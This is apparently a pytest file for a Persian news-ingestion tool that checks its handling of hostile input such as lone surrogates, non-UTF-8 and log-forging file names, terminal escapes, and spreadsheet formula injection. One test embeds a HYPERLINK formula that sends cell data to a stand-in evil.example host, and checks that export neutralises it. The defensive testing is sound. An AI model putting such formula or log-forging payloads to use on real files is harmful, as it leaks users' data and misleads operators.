"""Hostile input: characters UTF-8 cannot hold, names that are not UTF-8 or forge lines."""

import json
import os
import sqlite3

from typer.testing import CliRunner

from khabar.cli import app
from khabar.safetext import printable

runner = CliRunner()
GOOD = "وزیر کشور گفت که کار انجام می‌شود. " * 20
LONE = "رئیس مجلس \ud800 گفت که برنامه ادامه دارد. " * 20


def stored(db, column="text"):
    with sqlite3.connect(db) as conn:
        return [r[0] for r in conn.execute(f"SELECT {column} FROM documents ORDER BY id")]


def test_a_lone_surrogate_is_replaced_and_reported_not_the_batch_lost(tmp_path):
    path = tmp_path / "s.jsonl"
    lines = [json.dumps({"text": GOOD}), json.dumps({"text": LONE, "title": "عنوان \udfff"})]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = tmp_path / "s.db"
    result = runner.invoke(app, ["ingest", str(path), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert "read 2, new 2" in result.stderr and "failed 0" in result.stderr
    assert "s.jsonl:line 2: lone surrogate replaced with U+FFFD" in result.stderr
    assert "first at character 10 of the text" in result.stderr
    good, replaced = stored(db)
    assert replaced.startswith("رئیس مجلس \ufffd گفت") and good.startswith("وزیر کشور")
    with sqlite3.connect(db) as conn:  # one character for one: the original keeps its offsets
        (original,) = conn.execute("SELECT original FROM documents WHERE id = 2").fetchone()
    assert original.index("\ufffd") == 10 and len(original) == len(LONE.strip())
    assert stored(db, "title")[1] == "عنوان \ufffd"


def test_a_feed_with_a_reference_to_a_surrogate_keeps_every_entry(tmp_path):
    feed = tmp_path / "f.rss"
    feed.write_text(
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>خبر</title>'
        f"<item><title>یک</title><description>{GOOD}</description></item>"
        "<item><title>دو</title><description>رئیس مجلس &#xD800; گفت که برنامه &#1234567;"
        " ادامه دارد.</description></item></channel></rss>",
        encoding="utf-8",
    )
    db = tmp_path / "f.db"
    result = runner.invoke(app, ["ingest", str(feed), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert "read 2, new 2" in result.stderr and "(&#xD800;) read as U+FFFD: 2" in result.stderr
    assert stored(db)[1] == "رئیس مجلس \ufffd گفت که برنامه \ufffd ادامه دارد."


def test_a_file_name_that_is_not_utf8_is_read_and_shown_escaped(tmp_path):
    folder = tmp_path / "nu"
    folder.mkdir()
    (folder / "a.txt").write_text("وزیر کشور گفت.\n", encoding="utf-8")
    bad = os.path.join(os.fsencode(folder), b"b\xff.txt")
    with open(bad, "wb") as f:
        f.write("وزیر نیرو گفت.\n".encode())
    db = tmp_path / "nu.db"
    result = runner.invoke(app, ["ingest", str(folder), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert "read 2, new 2" in result.stderr
    assert stored(db, "path") == [str(folder / "a.txt"), str(folder / "b\\xff.txt")]

    extracted = runner.invoke(app, ["extract", str(folder / "a.txt"), os.fsdecode(bad)])
    assert extracted.exit_code == 0
    paths = [r["path"] for r in json.loads(extracted.stdout_bytes.decode("utf-8"))]
    assert paths == [str(folder / "a.txt"), str(folder / "b\\xff.txt")]


def test_a_name_with_a_newline_cannot_forge_a_line_of_the_failures(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "x.txt\n  failed y.txt: [red]forged").write_bytes(b"")
    (folder / "z\x1b[2J.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00")
    result = runner.invoke(app, ["ingest", str(folder), "--db", str(tmp_path / "k.db")])
    assert result.exit_code == 1
    lines = [line for line in result.stderr.splitlines() if "failed " in line]
    assert len(lines) == 3, result.stderr  # the summary and the two files
    assert "x.txt\\n  failed y.txt: [red]forged: empty file" in result.stderr
    assert "z\\x1b[2J.txt: binary file" in result.stderr


def test_printable_escapes_what_would_break_a_line_or_utf8():
    assert printable("خبر‌ها/a.txt") == "خبر‌ها/a.txt"  # ZWNJ and Persian stay
    assert printable("a\nb\tc\x1bd\x7f") == "a\\nb\\tc\\x1bd\\x7f"
    assert printable(os.fsdecode(b"b\xff\xfe.txt")) == "b\\xff\\xfe.txt"
    assert printable("x\ud800\u2028") == "x\\ud800\\u2028"


def test_csv_cells_that_would_be_formulas_start_with_a_quote(tmp_path):
    import csv
    import io

    from fastapi.testclient import TestClient

    from khabar.safetext import csv_cell, spreadsheet_cell
    from khabar.web import create_app

    title = '=HYPERLINK("http://evil.example/?"&A1,"خبر")'
    record = {"text": GOOD, "title": title, "url": "@SUM(1+1)", "source": "-2+3"}
    (tmp_path / "a.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    db = tmp_path / "k.db"
    assert runner.invoke(app, ["ingest", str(tmp_path / "a.jsonl"), "--db", str(db)]).exit_code == 0
    out = tmp_path / "csv"
    assert runner.invoke(app, ["export", "--format", "csv", "--db", str(db), "--out", str(out)])
    with (out / "documents.csv").open(encoding="utf-8-sig", newline="") as f:
        (row,) = csv.DictReader(f)
    assert (row["title"], row["url"]) == ("'" + title, "'@SUM(1+1)")

    api = TestClient(create_app(db)).get("/api/v1/documents?format=csv")
    (item,) = csv.DictReader(io.StringIO(api.text.removeprefix("\ufeff")))
    assert (item["title"], item["url"]) == ("'" + title, "'@SUM(1+1)")

    for cell in ("\tx", "\rx", "+98", "-", "＝1+1"):
        assert spreadsheet_cell(cell) == "'" + cell
    assert spreadsheet_cell("وزیر = رئیس") == "وزیر = رئیس"
    assert (csv_cell(-2.5), csv_cell(-3.0), spreadsheet_cell(-7)) == (-2.5, -3, -7)  # numbers


def test_a_writer_waits_for_the_lock_then_says_why(tmp_path, monkeypatch):
    import threading

    from khabar.store import core

    first, second = tmp_path / "a.txt", tmp_path / "b.txt"
    first.write_text(GOOD, encoding="utf-8")
    second.write_text("رئیس مجلس گفت که برنامه ادامه دارد. " * 5, encoding="utf-8")
    db = tmp_path / "k.db"
    assert runner.invoke(app, ["ingest", str(first), "--db", str(db)]).exit_code == 0
    other = sqlite3.connect(db, isolation_level=None, check_same_thread=False)
    other.execute("BEGIN IMMEDIATE")  # another writer, in the middle of its transaction
    monkeypatch.setattr(core, "BUSY_SECONDS", 1)
    result = runner.invoke(app, ["ingest", str(second), "--db", str(db)])
    assert result.exit_code == 2, result.output
    assert "another process is writing to this database and kept it locked" in result.stderr
    assert not isinstance(result.exception, sqlite3.OperationalError)

    monkeypatch.setattr(core, "BUSY_SECONDS", 600)  # the other one finishes while it waits
    threading.Timer(0.5, other.execute, ("COMMIT",)).start()
    result = runner.invoke(app, ["ingest", str(second), "--db", str(db)])
    assert result.exit_code == 0 and "new 1" in result.stderr, result.output
    other.close()


def test_html_nested_300_divs_deep_gives_its_text(tmp_path):
    sentences = [f"وزیر شماره {n} گفت که طرح تا پایان سال انجام می‌شود." for n in range(6)]
    body = "".join(f"<p>{s}</p>" for s in sentences[:3]) + "<div>" + sentences[3] + "</div>"
    page = (
        "<html><head><title>خبر</title></head><body>"
        + "<div class='w'>" * 300
        + body
        + "<span>" * 300
        + " ".join(sentences[4:])
        + "</span>" * 300
        + "</div>" * 300
        + "</body></html>"
    )
    (tmp_path / "deep.html").write_text(page, encoding="utf-8")
    db = tmp_path / "k.db"
    result = runner.invoke(app, ["ingest", str(tmp_path / "deep.html"), "--db", str(db)])
    assert result.exit_code == 0, result.output
    (text,) = stored(db)
    for sentence in sentences:
        assert sentence in text


def test_a_read_error_crosses_to_worker_processes_and_back():
    import pickle

    from khabar.errors import ReadError

    error = pickle.loads(pickle.dumps(ReadError("a.warc.gz:byte 956", "broken WARC record")))
    assert (error.source, error.reason) == ("a.warc.gz:byte 956", "broken WARC record")
    assert str(error) == "a.warc.gz:byte 956: broken WARC record"
